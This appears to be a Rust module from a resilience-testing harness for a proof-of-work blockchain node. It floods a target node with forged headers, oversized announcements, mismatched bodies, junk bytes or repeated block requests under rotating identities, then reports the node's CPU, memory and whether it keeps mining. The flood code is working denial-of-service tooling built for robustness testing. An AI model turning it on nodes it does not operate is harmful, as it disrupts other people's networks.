//! Floods: as much of one bad thing as a node takes, over as many connections and identities as it
//! allows, and what that costs it.

use crate::{
	error::AttackError,
	forge::{extrinsics_root, Draft, Miner},
	refuse::Stage,
	report::{figures, rounded, Report},
	victim::{Log, Usage, Victim},
	wire::{
		announcement, BlockRequest, Peer, PeerOptions, Served, WireError, HEADER_AND_BODY,
		HEADER_ONLY,
	},
};
use isthmus_primitives::{
	digest::{Seal, POW_ENGINE_ID},
	Hash, Header,
};
use polkadot_sdk::sp_runtime::{DigestItem, OpaqueExtrinsic};
use prost::Message;
use std::{
	path::Path,
	sync::atomic::{AtomicU64, Ordering},
	time::{Duration, Instant},
};

/// Connections at a time.
const CONNECTIONS: usize = 4;
/// Messages that are sent on one connection before waiting whether the node closes it.
const MESSAGES_A_CONNECTION: u64 = 32;
/// How long a node may take to close a connection that it found bad.
const CLOSING_TIME: Duration = Duration::from_secs(30);
/// Fewer messages than these are no flood, whatever the node did with them.
const LEAST_MESSAGES: u64 = 100;
/// The same of requests, whose answers are large.
const LEAST_REQUESTS: u64 = 10;
/// The bytes of answers to requests that are no flood, an answer.
const LEAST_ANSWER: u64 = 64 * 1024;
/// What a node logs of bytes that are no announcement.
const UNDECODABLE: &str = "failed to decode block announce";
/// How long a node may take for its next block when the flood is over.
const NEXT_BLOCK: Duration = Duration::from_secs(30);
/// How much more memory a node may hold at its peak than before, in bytes.
const MEMORY_ALLOWED: u64 = 256 * 1024 * 1024;
/// The bytes of a bad body.
const BODY_BYTES: usize = 4 * 1024 * 1024;
/// The most bytes of an announcement that a node takes.
const MAX_ANNOUNCEMENT: usize = 1024 * 1024;

/// What to send.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Kind {
	/// Headers with a seal that is none: a node finds out with two hashes.
	Headers,
	/// Headers with a mix hash that was never mixed: they cost the sender H_d short hashes each, and
	/// the node a whole light one.
	Mixes,
	/// Blocks with a true seal, and a large body that is not theirs.
	Bodies,
	/// Bytes that are no announcement.
	Bytes,
	/// Announcements as large as the network layer takes.
	Oversized,
	/// Requests for the node's blocks with their bodies, as many as one answer holds, from every block
	/// on, over and over.
	Requests,
}

impl Kind {
	/// Whether what is sent must cost the sender its connection. (The network library bears bytes that are
	/// no announcement, and requests are what a node is for.)
	fn costs_the_connection(self) -> bool {
		!matches!(self, Self::Bytes | Self::Requests)
	}

	fn names(self) -> (&'static str, &'static str) {
		match self {
			Self::Headers => ("flood-headers", "Flood of headers with broken seals"),
			Self::Mixes => ("flood-mixes", "Flood of headers with false mix hashes"),
			Self::Bodies => (
				"flood-bodies",
				"Flood of large bodies that are not their headers'",
			),
			Self::Bytes => ("flood-bytes", "Flood of bytes that are no announcements"),
			Self::Oversized => ("flood-oversized", "Flood of the largest announcements"),
			Self::Requests => ("flood-requests", "Flood of block requests"),
		}
	}
}

/// How much of it.
#[derive(Clone, Copy, Debug)]
pub struct Extent {
	/// Messages in all.
	pub messages: u64,
	/// No longer than this.
	pub limit: Duration,
}

/// Floods the node, and says what it cost it.
///
/// # Errors
///
/// What keeps it from being carried out.
pub async fn flood(
	victim: &Victim,
	pid: u32,
	log: Option<&Path>,
	kind: Kind,
	extent: Extent,
) -> Result<Report, AttackError> {
	let miner = Miner::new(victim.params())?;
	let stage = Stage::read(victim, &miner).await?;
	let before = Usage::of(pid)?;
	// So that the peak is the flood's own. Where the system does not let us, it is the node's whole life's.
	let _ = std::fs::write(format!("/proc/{pid}/clear_refs"), "5");
	let mut log = log.map(Log::at_end).transpose()?;
	let started = Instant::now();
	let (count, numbers) = (Count::default(), AtomicU64::new(1));
	let connections =
		(0..CONNECTIONS).map(|_| connections(victim, &stage, kind, extent, &numbers, &count));
	futures::future::try_join_all(connections).await?;
	let seconds = started.elapsed().as_secs_f64();
	let after = Usage::of(pid)?;

	let best = victim.best().await?;
	let mined = victim.best_above(best.number, NEXT_BLOCK).await.is_ok();
	let more_memory = after.peak_memory.saturating_sub(before.memory);
	let cpu = after.cpu_seconds - before.cpu_seconds;
	let (sent, identities) = (Count::of(&count.sent), Count::of(&count.identities));
	let mut figures = figures([
		("messages", sent.into()),
		("identities", identities.into()),
		("refused_connections", Count::of(&count.refused).into()),
		("closed_by_the_node", Count::of(&count.closed).into()),
		("seconds", rounded(seconds)),
		("victim_cpu_seconds", rounded(cpu)),
		(
			"victim_cpu_micros_per_message",
			rounded(cpu * 1e6 / sent.max(1) as f64),
		),
		(
			"victim_memory_before_mib",
			rounded(mebibytes(before.memory)),
		),
		(
			"victim_memory_peak_mib",
			rounded(mebibytes(after.peak_memory)),
		),
	]);
	if kind == Kind::Requests {
		let bytes = Count::of(&count.answered_bytes);
		figures.insert("mib_answered".into(), rounded(mebibytes(bytes)));
	}
	if let Some(log) = &mut log {
		let lines = log.lines()?;
		let with = |part: &str| lines.iter().filter(|line| line.contains(part)).count() as u64;
		figures.insert("log_lines_of_refusals".into(), with("is rejected").into());
		if kind == Kind::Bytes {
			count
				.undecodable
				.store(with(UNDECODABLE), Ordering::Relaxed);
			figures.insert("log_lines_of_such_bytes".into(), with(UNDECODABLE).into());
		}
	}
	let wrong = count.wrong(kind, log.is_some());
	let (attack, title) = kind.names();
	Ok(Report {
		attack,
		title,
		promise: "the paper is silent on floods; a node must go on",
		observed: format!(
			"{sent} messages over {identities} identities in {seconds:.1} s cost the node {cpu:.2} s of \
			 processor time and {:.0} MiB of memory at the peak; it {}{}",
			mebibytes(more_memory),
			if mined { "mined on" } else { "stopped mining" },
			wrong
				.as_ref()
				.map(|wrong| format!(". But {wrong}"))
				.unwrap_or_default(),
		),
		figures,
		held: mined && more_memory <= MEMORY_ALLOWED && wrong.is_none(),
	})
}

/// What was done, and what the node did with it.
#[derive(Default)]
struct Count {
	/// Messages that the node took, or requests that it answered with blocks.
	sent: AtomicU64,
	identities: AtomicU64,
	refused: AtomicU64,
	/// Connections over which something was sent and which the node closed, or did not close.
	closed: AtomicU64,
	kept: AtomicU64,
	answered_bytes: AtomicU64,
	/// Lines of the node's log about bytes that are no announcement.
	undecodable: AtomicU64,
}

impl Count {
	fn of(count: &AtomicU64) -> u64 {
		count.load(Ordering::Relaxed)
	}

	fn one(count: &AtomicU64) {
		count.fetch_add(1, Ordering::Relaxed);
	}

	/// What makes this no flood, or the node one that did not do what it must. `logged` says whether the
	/// node's log is known.
	fn wrong(&self, kind: Kind, logged: bool) -> Option<String> {
		let (sent, kept) = (Self::of(&self.sent), Self::of(&self.kept));
		let (bytes, undecodable) = (Self::of(&self.answered_bytes), Self::of(&self.undecodable));
		let least = match kind {
			Kind::Requests => LEAST_REQUESTS,
			_ => LEAST_MESSAGES,
		};
		if sent < least {
			return Some(format!("fewer than {least} messages are no flood"));
		}
		match kind {
			Kind::Requests if bytes < sent.saturating_mul(LEAST_ANSWER) => {
				Some(format!("answers with {bytes} bytes in all are no flood"))
			}
			Kind::Bytes if logged && undecodable < least => {
				Some(format!("the node noticed {undecodable} of them"))
			}
			_ if kind.costs_the_connection() && kept > 0 => {
				Some(format!("the node kept {kept} of the connections"))
			}
			_ => None,
		}
	}
}

/// One connection after the other, each under a new identity, until all is sent or time is up.
async fn connections(
	victim: &Victim,
	stage: &Stage<'_>,
	kind: Kind,
	extent: Extent,
	numbers: &AtomicU64,
	count: &Count,
) -> Result<(), AttackError> {
	let started = Instant::now();
	while Count::of(&count.sent) < extent.messages && started.elapsed() < extent.limit {
		let served = Served::default();
		for ancestor in stage.headers.iter().rev() {
			served.add(ancestor, &[]);
		}
		let connected = Peer::connect(PeerOptions {
			address: victim.address().clone(),
			handshake: victim.handshake(stage.best()),
			served: served.clone(),
		})
		.await;
		let peer = match connected {
			Ok(peer) => peer,
			Err(WireError::Refused(_) | WireError::Closed | WireError::TimedOut(_)) => {
				Count::one(&count.refused);
				continue;
			}
			Err(error) => return Err(error.into()),
		};
		Count::one(&count.identities);
		let mut any = false;
		for index in 0..MESSAGES_A_CONNECTION {
			let in_time = started.elapsed() < extent.limit;
			if peer.is_closed() || !in_time || Count::of(&count.sent) >= extent.messages {
				break;
			}
			let number = numbers.fetch_add(1, Ordering::Relaxed);
			let sent = match kind {
				Kind::Requests => request(&peer, stage, number, index, count).await,
				_ => peer.announce(message(stage, kind, number, &served)?).await,
			};
			match sent {
				Ok(()) => Count::one(&count.sent),
				Err(_) => break,
			}
			any = true;
		}
		if kind == Kind::Bytes {
			// When this is answered, or refused, what was sent before has come to the node.
			let request = BlockRequest::up_from(1, HEADER_ONLY, 1);
			let _ = tokio::time::timeout(CLOSING_TIME, peer.blocks(&request)).await;
		}
		if any && kind.costs_the_connection() {
			let closed = peer.closed_within(CLOSING_TIME).await;
			Count::one(if closed { &count.closed } else { &count.kept });
		}
	}
	Ok(())
}

/// Asks for as many blocks as one answer holds. No two requests of a connection are equal, or the node
/// would refuse the third.
async fn request(
	peer: &Peer,
	stage: &Stage<'_>,
	number: u64,
	index: u64,
	count: &Count,
) -> Result<(), WireError> {
	let best = u64::from(stage.best().number).max(1);
	let first = u32::try_from(number % best).unwrap_or_default();
	let most = 128u32.saturating_sub(u32::try_from(index).unwrap_or_default());
	let request = BlockRequest::up_from(first.saturating_add(1), HEADER_AND_BODY, most);
	let answer = peer.request(request.encode_to_vec()).await?;
	count
		.answered_bytes
		.fetch_add(answer.len() as u64, Ordering::Relaxed);
	Ok(())
}

/// The announcement of this number: no two are equal, or the node would know them.
fn message(
	stage: &Stage<'_>,
	kind: Kind,
	number: u64,
	served: &Served,
) -> Result<Vec<u8>, AttackError> {
	let mut draft = stage.child();
	draft.state_root = Hash::from_low_u64_be(number);
	Ok(match kind {
		Kind::Bytes | Kind::Requests => vec![0xff; 512],
		Kind::Headers => announcement(&without_work(&draft, number), true, &[]),
		Kind::Oversized => {
			let header = without_work(&draft, number);
			announcement(&header, true, &vec![0; MAX_ANNOUNCEMENT - 1024])
		}
		Kind::Mixes => {
			let unsealed = draft.unsealed();
			let seal = crate::forge::seal_with_false_mix(&unsealed, draft.pre.difficulty)?;
			announcement(&crate::forge::with_seal(unsealed, seal), true, &[])
		}
		Kind::Bodies => {
			draft.extrinsics_root = extrinsics_root(&[]);
			let header = stage.seal(&draft)?;
			served.add(&header, &[OpaqueExtrinsic::from_blob(vec![5; BODY_BYTES])]);
			announcement(&header, true, &[])
		}
	})
}

/// The header with a seal that nobody searched for.
fn without_work(draft: &Draft, nonce: u64) -> Header {
	use codec::Encode;
	let mut header = draft.unsealed();
	let seal = Seal {
		mix_hash: Hash::repeat_byte(0xff),
		nonce,
	};
	header
		.digest
		.push(DigestItem::Seal(POW_ENGINE_ID, seal.encode()));
	header
}

fn mebibytes(bytes: u64) -> f64 {
	bytes as f64 / (1024.0 * 1024.0)
}

#[cfg(test)]
mod tests {
	use super::*;

	#[test]
	fn what_is_no_flood_does_not_hold() {
		let count = Count::default();
		assert!(count.wrong(Kind::Headers, true).is_some());
		count.sent.store(LEAST_MESSAGES, Ordering::Relaxed);
		assert_eq!(count.wrong(Kind::Headers, true), None);
		assert!(count.wrong(Kind::Requests, true).is_some());
		let bytes = LEAST_MESSAGES * LEAST_ANSWER;
		count.answered_bytes.store(bytes, Ordering::Relaxed);
		assert_eq!(count.wrong(Kind::Requests, true), None);
		assert!(count.wrong(Kind::Bytes, true).is_some());
		assert_eq!(count.wrong(Kind::Bytes, false), None);
		count.undecodable.store(LEAST_MESSAGES, Ordering::Relaxed);
		assert_eq!(count.wrong(Kind::Bytes, true), None);
	}

	#[test]
	fn who_keeps_a_bad_connection_does_not_hold() {
		let count = Count::default();
		count.sent.store(LEAST_MESSAGES, Ordering::Relaxed);
		count.kept.store(1, Ordering::Relaxed);
		for kind in [Kind::Headers, Kind::Mixes, Kind::Bodies, Kind::Oversized] {
			assert!(count.wrong(kind, true).is_some(), "{kind:?}");
		}
	}
}
